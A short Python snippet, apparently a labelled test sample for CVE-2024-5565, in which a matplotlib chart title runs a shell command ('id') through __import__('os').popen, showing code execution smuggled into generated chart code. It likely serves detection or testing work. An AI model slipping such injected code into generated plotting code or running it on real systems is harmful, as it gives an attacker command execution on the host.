# class: lineage
# mechanism: CVE-2024-5565
# how: CVE-2024-5565: code in chart text
# reaches: built-in __import__
import matplotlib.pyplot as plt
plt.title(__import__("os").popen("id").read())
